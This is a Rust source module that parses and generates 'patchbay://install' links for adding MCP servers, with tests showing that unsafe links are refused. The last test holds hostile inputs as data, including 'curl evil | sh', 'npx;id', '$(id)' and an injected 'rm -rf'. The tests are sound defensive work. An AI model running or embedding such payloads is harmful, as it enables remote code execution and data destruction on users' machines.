//! Install links: `patchbay://install?v=1&...`, a server to add, shared as one URL, that opens
//! the same consent as an entry of the catalogue.
//!
//! A link carries either a registry name (`name=io.github.acme/weather`, `version=` optional),
//! resolved against the configured registries like `add --from-registry`, or a whole server
//! description (`server=`, base64url JSON without padding, `name=` the suggested local name):
//!
//! ```json
//! {"command": "npx", "args": ["-y", "@acme/weather@1.2.0"],
//!  "env": {"UNITS": "metric"}, "ask_env": ["REGION"], "secret_env": ["API_KEY"]}
//! {"url": "https://weather.example/mcp"}
//! ```
//!
//! `env` holds fixed values that are not secret; `ask_env` names values the recipient gives;
//! `secret_env` names values the recipient gives and that go to the vault. A link never holds
//! a secret's value.
//!
//! A parsed link is a [`ServerDetail`] (a described command in its `command`, which no registry
//! record can fill), so it takes the one path of a record: [`plan::choose`], [`plan::questions`],
//! [`plan::adding`]. Parsing already makes that plan, with placeholder answers, so every refusal
//! of [`plan`] (shell metacharacters and line breaks, plain http to another machine, bad
//! variable names) refuses the link itself.

use std::collections::BTreeMap;

use base64::Engine;
use serde::{Deserialize, Serialize};

use super::plan::{self, PlanError};
use super::record::{Command, Input, KeyValueInput, Remote, ServerDetail, ServerResponse};
use super::{Found, Registries, RegistryError};
use crate::config::ServerConfig;

/// The link's scheme.
pub const SCHEME: &str = "patchbay";

/// The only version of the format, `v=1`.
pub const VERSION: &str = "1";

/// The longest link read, in bytes.
pub const MAX_LINK_BYTES: usize = 8 * 1024;

/// Where a link from a described server says it came from, in place of a registry.
pub const FROM_LINK: &str = "link";

/// What a link asks to add.
#[derive(Debug, Clone)]
pub enum Link {
    /// A record of the configured registries.
    Registry {
        /// Its registry name.
        name: String,
        /// The version; the latest when none.
        version: Option<String>,
    },
    /// A server described whole; its `name` is the suggested local name.
    Server(Box<ServerDetail>),
}

/// Why a link is refused.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum LinkError {
    /// Not a `patchbay://install?` link at all.
    #[error("not an install link: {0}")]
    NotALink(String),
    /// Longer than [`MAX_LINK_BYTES`].
    #[error("the link is {0} bytes, more than the {MAX_LINK_BYTES} an install link may have")]
    TooLong(usize),
    /// A parameter missing, repeated or unknown.
    #[error("the link's parameters: {0}")]
    Parameter(String),
    /// A format version this code does not read.
    #[error("the link is of version `{0}`; this Patchbay reads version {VERSION}")]
    Version(String),
    /// `server=` is not base64url JSON of a server description.
    #[error("the link's server description: {0}")]
    Description(String),
    /// A secret's value in the link.
    #[error("the link holds a value for secret `{0}`; a link carries secret names only, refused")]
    SecretValue(String),
    /// What the link describes is refused as a registry record would be.
    #[error("the link is refused: {0}")]
    Refused(#[from] PlanError),
}

/// The `server=` JSON.
#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Described {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    command: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    args: Vec<String>,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    env: BTreeMap<String, String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    ask_env: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    secret_env: Vec<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    url: Option<String>,
}

/// Read `text` as an install link, refusing it with the cause.
pub fn parse(text: &str) -> Result<Link, LinkError> {
    let text = text.trim();
    if text.len() > MAX_LINK_BYTES {
        return Err(LinkError::TooLong(text.len()));
    }
    let start = format!("{SCHEME}://install?");
    let url = url::Url::parse(text).map_err(|err| LinkError::NotALink(err.to_string()))?;
    if url.scheme() != SCHEME || url.host_str() != Some("install") || !url.path().is_empty() {
        let shown: String = text.chars().take(60).collect();
        return Err(LinkError::NotALink(format!(
            "`{shown}` does not start with `{start}`"
        )));
    }
    if url.fragment().is_some() {
        return Err(LinkError::Parameter("a link has no `#` part".into()));
    }
    let mut params = BTreeMap::new();
    for (key, value) in url.query_pairs() {
        if !["v", "name", "version", "server"].contains(&key.as_ref()) {
            return Err(LinkError::Parameter(format!("unknown parameter `{key}`")));
        }
        if params.insert(key.to_string(), value.to_string()).is_some() {
            return Err(LinkError::Parameter(format!("`{key}` given twice")));
        }
    }
    match params.get("v").map(String::as_str) {
        Some(VERSION) => {}
        Some(other) => return Err(LinkError::Version(other.to_owned())),
        None => return Err(LinkError::Parameter(format!("no version (`v={VERSION}`)"))),
    }
    let name = params.remove("name");
    if let Some(name) = &name {
        plan::safe("name", name)?;
    }
    let link = match (params.remove("server"), name) {
        (Some(server), name) => {
            if params.contains_key("version") {
                return Err(LinkError::Parameter(
                    "`version` goes with a registry name, not with `server`".into(),
                ));
            }
            Link::Server(Box::new(described(&server, name)?))
        }
        (None, Some(name)) => {
            let version = params.remove("version");
            if let Some(version) = &version {
                plan::safe("version", version)?;
            }
            Link::Registry { name, version }
        }
        (None, None) => {
            return Err(LinkError::Parameter(
                "neither a registry name (`name=`) nor a server (`server=`)".into(),
            ));
        }
    };
    Ok(link)
}

/// The server described by `encoded`, named `name`, checked by making its plan.
fn described(encoded: &str, name: Option<String>) -> Result<ServerDetail, LinkError> {
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(encoded.trim_end_matches('='))
        .map_err(|err| LinkError::Description(format!("not base64url: {err}")))?;
    let described: Described = serde_json::from_slice(&bytes)
        .map_err(|err| LinkError::Description(format!("not a server description: {err}")))?;
    if let Some(secret) = described
        .secret_env
        .iter()
        .find(|n| described.env.contains_key(*n))
    {
        return Err(LinkError::SecretValue(secret.clone()));
    }
    let mut detail = ServerDetail {
        name: name.unwrap_or_else(|| "server".into()),
        description: "a server from an install link".into(),
        ..ServerDetail::default()
    };
    match (described.command, described.url) {
        (Some(command), None) => {
            let fixed = (described.env.into_iter()).map(|(name, value)| (name, Some(value), false));
            let asked = (described.ask_env.into_iter()).map(|name| (name, None, false));
            let secret = (described.secret_env.into_iter()).map(|name| (name, None, true));
            let environment_variables = (fixed.chain(asked).chain(secret))
                .map(|(name, value, is_secret)| KeyValueInput {
                    name,
                    input: Input {
                        is_required: true,
                        is_secret,
                        value,
                        ..Input::default()
                    },
                })
                .collect();
            detail.command = Some(Command {
                command,
                args: described.args,
                environment_variables,
            });
        }
        (None, Some(url)) => {
            let local_only = !described.args.is_empty()
                || !described.env.is_empty()
                || !described.ask_env.is_empty()
                || !described.secret_env.is_empty();
            if local_only {
                return Err(LinkError::Description(
                    "a remote server (`url`) takes no `args` or environment".into(),
                ));
            }
            detail.remotes.push(Remote {
                kind: "streamable-http".into(),
                url,
                headers: Vec::new(),
            });
        }
        _ => {
            return Err(LinkError::Description(
                "it needs exactly one of `command` (a local server) and `url` (a remote one)"
                    .into(),
            ));
        }
    }
    check(&detail)?;
    Ok(detail)
}

/// Refuse `detail` when its plan, with placeholder answers, is refused.
fn check(detail: &ServerDetail) -> Result<(), PlanError> {
    let way = plan::choose(detail)?;
    let answers: Vec<String> = (plan::questions(way).into_iter())
        .map(|q| q.choices.first().cloned().unwrap_or_else(|| "x".into()))
        .collect();
    plan::plan(detail, way, &answers, true).map(drop)
}

impl Link {
    /// The record this link adds: from the registries for a registry name, else the link's own
    /// (its registry [`FROM_LINK`]).
    pub async fn resolve(self, registries: &Registries) -> Result<Found, RegistryError> {
        match self {
            Link::Registry { name, version } => registries.get(&name, version.as_deref()).await,
            Link::Server(server) => Ok(Found {
                record: ServerResponse {
                    server: *server,
                    meta: None,
                },
                registry: FROM_LINK.into(),
            }),
        }
    }
}

/// The link that adds `server` (named `name`) elsewhere. It never holds a secret: the
/// `secret_env` names are carried, not their values; the plain `env` values are carried only
/// with `env_values` (they may be secrets kept in the open), else their names, to be asked.
/// The working directory is not carried (it is this machine's).
pub fn for_server(name: &str, server: &ServerConfig, env_values: bool) -> String {
    let mut described = Described::default();
    match &server.url {
        Some(url) => described.url = Some(url.clone()),
        None => {
            described.command = Some(server.command.clone());
            described.args = server.args.clone();
            described.secret_env = server.secret_env.clone();
            let plain = (server.env.iter()).filter(|(n, _)| !server.secret_env.contains(n));
            for (var, value) in plain {
                match env_values {
                    true => _ = described.env.insert(var.clone(), value.clone()),
                    false => described.ask_env.push(var.clone()),
                }
            }
        }
    }
    let json = serde_json::to_vec(&described).expect("a description is JSON");
    let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json);
    let query: String = url::form_urlencoded::Serializer::new(String::new())
        .append_pair("v", VERSION)
        .append_pair("name", name)
        .append_pair("server", &encoded)
        .finish();
    format!("{SCHEME}://install?{query}")
}

/// The link that adds registry record `name` (at `version`, or the latest).
pub fn for_record(name: &str, version: Option<&str>) -> String {
    let mut query = url::form_urlencoded::Serializer::new(String::new());
    query.append_pair("v", VERSION).append_pair("name", name);
    if let Some(version) = version {
        query.append_pair("version", version);
    }
    format!("{SCHEME}://install?{}", query.finish())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn server_link(description: serde_json::Value) -> String {
        let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(serde_json::to_vec(&description).unwrap());
        format!("patchbay://install?v=1&name=weather&server={encoded}")
    }

    fn detail(link: &str) -> ServerDetail {
        match parse(link).unwrap() {
            Link::Server(detail) => *detail,
            other => panic!("a described server, not {other:?}"),
        }
    }

    #[test]
    fn a_configured_server_round_trips_without_its_secrets() {
        let mut server = ServerConfig::new("npx", vec!["-y".into(), "@acme/weather@1.2.0".into()]);
        server.env.insert("UNITS".into(), "metric".into());
        server.secret_env.push("API_KEY".into());
        server.cwd = Some("/home/me/w".into());

        let link = for_server("weather", &server, false);
        assert!(link.starts_with("patchbay://install?v=1&name=weather&server="));
        assert!(
            !link.contains("metric"),
            "plain values are names only by default"
        );
        let got = detail(&link);
        assert_eq!(got.name, "weather");
        let way = plan::choose(&got).unwrap();
        let asked: Vec<(String, bool)> = (plan::questions(way).into_iter())
            .map(|q| (q.name, q.secret))
            .collect();
        assert_eq!(
            asked,
            [("UNITS".into(), false), ("API_KEY".into(), true)],
            "the plain value asked, then the secret"
        );
        let answers = ["metric".to_owned(), "k3y".to_owned()];
        let planned = plan::plan(&got, way, &answers, false).unwrap();
        assert_eq!(planned.server.command, server.command);
        assert_eq!(planned.server.args, server.args);
        assert_eq!(planned.server.env, server.env);
        assert_eq!(planned.server.secret_env, server.secret_env);
        assert_eq!(
            planned.secrets.get("API_KEY").map(String::as_str),
            Some("k3y")
        );
        assert!(planned.server.registry.is_none(), "not from a registry");
        assert!(
            planned.server.cwd.is_none(),
            "this machine's directory stays here"
        );

        let with_values = for_server("weather", &server, true);
        let got = detail(&with_values);
        let way = plan::choose(&got).unwrap();
        let asked: Vec<String> = plan::questions(way).into_iter().map(|q| q.name).collect();
        assert_eq!(asked, ["API_KEY"], "only the secret is asked");
        let planned = plan::plan(&got, way, &["k".into()], false).unwrap();
        assert_eq!(planned.server.env, server.env);

        let remote = ServerConfig::remote("https://weather.example/mcp");
        let got = detail(&for_server("w", &remote, false));
        assert!(
            matches!(plan::choose(&got).unwrap(), plan::Way::Remote(r) if r.url == "https://weather.example/mcp")
        );
    }

    #[test]
    fn a_registry_name_link_reads() {
        let link = for_record("io.github.acme/weather", Some("1.2.0"));
        assert_eq!(
            link,
            "patchbay://install?v=1&name=io.github.acme%2Fweather&version=1.2.0"
        );
        match parse(&link).unwrap() {
            Link::Registry { name, version } => {
                assert_eq!(name, "io.github.acme/weather");
                assert_eq!(version.as_deref(), Some("1.2.0"));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn links_that_are_not_install_links_are_refused() {
        for text in [
            "https://install?v=1&name=a",
            "patchbay://remove?v=1&name=a",
            "patchbay://install/more?v=1&name=a",
            "not a url",
        ] {
            let err = parse(text).unwrap_err();
            assert!(matches!(err, LinkError::NotALink(_)), "{text}: {err}");
        }
        let long = format!("patchbay://install?v=1&name={}", "a".repeat(MAX_LINK_BYTES));
        assert!(matches!(parse(&long).unwrap_err(), LinkError::TooLong(_)));
    }

    #[test]
    fn unknown_versions_and_parameters_are_refused() {
        let err = parse("patchbay://install?v=2&name=a").unwrap_err();
        assert!(
            matches!(err, LinkError::Version(ref v) if v == "2"),
            "{err}"
        );
        assert!(err.to_string().contains("version `2`"), "{err}");
        assert!(matches!(
            parse("patchbay://install?name=a").unwrap_err(),
            LinkError::Parameter(_)
        ));
        let err = parse("patchbay://install?v=1&name=a&run=sh").unwrap_err();
        assert!(err.to_string().contains("unknown parameter `run`"), "{err}");
        let err = parse("patchbay://install?v=1&name=a&name=b").unwrap_err();
        assert!(err.to_string().contains("`name` given twice"), "{err}");
        assert!(matches!(
            parse("patchbay://install?v=1").unwrap_err(),
            LinkError::Parameter(_)
        ));
    }

    #[test]
    fn bad_descriptions_are_refused_with_the_cause() {
        let err = parse("patchbay://install?v=1&server=***").unwrap_err();
        assert!(err.to_string().contains("not base64url"), "{err}");
        let not_json = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode("{nope");
        let err = parse(&format!("patchbay://install?v=1&server={not_json}")).unwrap_err();
        assert!(
            err.to_string().contains("not a server description"),
            "{err}"
        );
        let err = parse(&server_link(json!({"command": "x", "shell": true}))).unwrap_err();
        assert!(err.to_string().contains("unknown field `shell`"), "{err}");
        let err = parse(&server_link(json!({"args": ["x"]}))).unwrap_err();
        assert!(err.to_string().contains("exactly one of"), "{err}");
        let err = parse(&server_link(
            json!({"url": "https://w.example/mcp", "args": ["x"]}),
        ))
        .unwrap_err();
        assert!(matches!(err, LinkError::Description(_)), "{err}");
    }

    #[test]
    fn hostile_descriptions_are_refused_as_records_are() {
        for description in [
            json!({"command": "sh", "args": ["-c", "curl evil | sh"]}),
            json!({"command": "npx;id"}),
            json!({"command": "npx", "args": ["a\nb"]}),
            json!({"command": "npx", "env": {"X": "$(id)"}}),
        ] {
            let err = parse(&server_link(description.clone())).unwrap_err();
            assert!(
                matches!(err, LinkError::Refused(PlanError::Unsafe { .. })),
                "{description}: {err}"
            );
            assert!(err.to_string().contains("shell metacharacter"), "{err}");
        }
        let err = parse(&server_link(
            json!({"command": "npx", "ask_env": ["BAD-NAME"]}),
        ))
        .unwrap_err();
        assert!(
            matches!(err, LinkError::Refused(PlanError::Invalid { .. })),
            "{err}"
        );
        let err = parse(&server_link(json!({"url": "http://weather.example/mcp"}))).unwrap_err();
        assert!(err.to_string().contains("plain http"), "{err}");
        assert!(
            parse(&server_link(json!({"url": "http://127.0.0.1:9/mcp"}))).is_ok(),
            "plain http to loopback"
        );
        let err = parse(&server_link(
            json!({"command": "npx", "env": {"API_KEY": "s3cret"}, "secret_env": ["API_KEY"]}),
        ))
        .unwrap_err();
        assert!(
            matches!(err, LinkError::SecretValue(ref n) if n == "API_KEY"),
            "{err}"
        );
        let err = parse("patchbay://install?v=1&name=a%3Brm%20-rf").unwrap_err();
        assert!(
            matches!(err, LinkError::Refused(PlanError::Unsafe { .. })),
            "{err}"
        );
    }
}
